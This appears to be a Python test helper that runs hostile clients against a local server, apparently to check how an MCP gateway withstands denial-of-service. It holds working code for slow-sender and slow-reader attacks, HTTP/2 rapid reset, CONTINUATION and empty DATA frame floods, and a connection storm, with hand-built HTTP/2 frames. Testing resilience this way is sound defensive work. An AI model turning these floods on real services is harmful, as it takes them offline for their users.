"""Clients that do harm, in a process of their own, so that they take no time from the good ones' clock.

    attackers.py KIND PORT HOST TOKEN     until it is told to stop; then it prints what it saw as JSON
"""

import asyncio
import json
import resource
import signal
import socket
import struct
import subprocess
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Attackers:
    """Runs for as long as its `with` block; `seen` is what came of it."""

    def __init__(self, kind, place):
        self._arguments = [kind, str(place.replica.port), place.gateway.host, place.token]
        self.seen = {}

    def __enter__(self):
        command = ["nice", sys.executable, __file__, *self._arguments]
        self._process = subprocess.Popen(command, stdout=subprocess.PIPE, text=True, stdin=subprocess.DEVNULL)
        return self

    def __exit__(self, *_):
        self._process.terminate()
        output, _ = self._process.communicate(timeout=30)
        self.seen = json.loads(output)


class Attack:
    def __init__(self, port, host, token):
        self.port, self.host, self.token = port, host, token
        self.seen = {}
        self.over = asyncio.Event()

    def count(self, name):
        self.seen[name] = self.seen.get(name, 0) + 1

    async def run(self, one, count):
        asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, self.over.set)
        work = [asyncio.create_task(self.again(one, number)) for number in range(count)]
        await self.over.wait()
        for task in work:
            task.cancel()
        await asyncio.gather(*work, return_exceptions=True)

    async def again(self, one, number):
        await asyncio.sleep(number / 500)
        while True:
            reader, writer = await asyncio.open_connection("127.0.0.1", self.port, limit=64)
            try:
                await one(number, reader, writer)
            except OSError:
                pass
            finally:
                writer.transport.abort()
            self.count("cut off")
            await asyncio.sleep(0.2)

    async def slow_sender(self, number, reader, writer):
        writer.write(b"POST /mcp HTTP/1.1\r\nHost: " + self.host.encode() + b"\r\n")
        if number % 2:
            writer.write(b"Authorization: Bearer " + self.token.encode() + b"\r\n")
            writer.write(b"Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n")
        while not reader.at_eof() and not writer.is_closing():
            writer.write(b"x")
            await asyncio.sleep(1)

    async def slow_reader(self, _, reader, writer):
        writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}})
        head = f"POST /mcp HTTP/1.1\r\nHost: {self.host}\r\nAuthorization: Bearer {self.token}\r\n"
        head += "Content-Type: application/json\r\nAccept: application/json, text/event-stream\r\nMCP-Protocol-Version: 2025-11-25\r\n"
        request = f"{head}Content-Length: {len(body)}\r\n\r\n{body}".encode()
        # All at once: the answers don't fit into what lies between.
        writer.write(request * 20)
        while await reader.read(1):
            await asyncio.sleep(1)

    async def flood(self, writer, pieces):
        writer.write(PREFACE + frame(4, 0, 0))
        for piece in pieces:
            writer.write(piece)
            await writer.drain()

    async def rapid_reset(self, _, __, writer):
        block = request_block(self.host)
        cancel = struct.pack(">I", 8)
        await self.flood(writer, (frame(1, 5, stream, block) + frame(3, 0, stream, cancel) for stream in range(1, 1 << 30, 2)))

    async def continuation(self, _, __, writer):
        first = frame(1, 0, 1, request_block(self.host))
        piece = frame(9, 0, 1, b"\x00\x01a\x01b" * 1000)

        def pieces():
            yield first
            while True:
                yield piece

        await self.flood(writer, pieces())

    async def empty_data(self, _, __, writer):
        def pieces():
            yield frame(1, 4, 1, request_block(self.host, b"POST"))
            while True:
                yield frame(0, 0, 1) * 100

        await self.flood(writer, pieces())


    async def one_connection(self, _, reader, writer):
        """Many of them, one after another; the one that was given is the first."""
        request = f"GET /livez HTTP/1.1\r\nHost: {self.host}\r\nConnection: close\r\n\r\n".encode()
        while True:
            writer.write(request)
            answer = await reader.read()
            self.count("answered" if answer.startswith(b"HTTP/1.1 200") else "without an answer")
            writer.transport.abort()
            reader, writer = await asyncio.open_connection("127.0.0.1", self.port)


STORM = {"connections": (Attack.one_connection, 64)}
KINDS = {
    "slow senders": (Attack.slow_sender, 500),
    "slow readers": (Attack.slow_reader, 50),
    "rapid reset": (Attack.rapid_reset, 2),
    "CONTINUATION": (Attack.continuation, 2),
    "empty DATA": (Attack.empty_data, 2),
}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_block(host, method=b"GET"):
    """The head of a request in HPACK, as literals without an index."""

    def literal(name, value):
        return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value

    fields = [(b":method", method), (b":scheme", b"http"), (b":path", b"/livez"), (b":authority", host.encode())]
    return b"".join(literal(name, value) for name, value in fields)


def main():
    kind, port, host, token = sys.argv[1:]
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    one, count = (KINDS | STORM)[kind]

    async def attack():
        attack = Attack(int(port), host, token)
        await attack.run(lambda *given: one(attack, *given), count)
        return attack.seen

    print(json.dumps(asyncio.run(attack())))


if __name__ == "__main__":
    main()
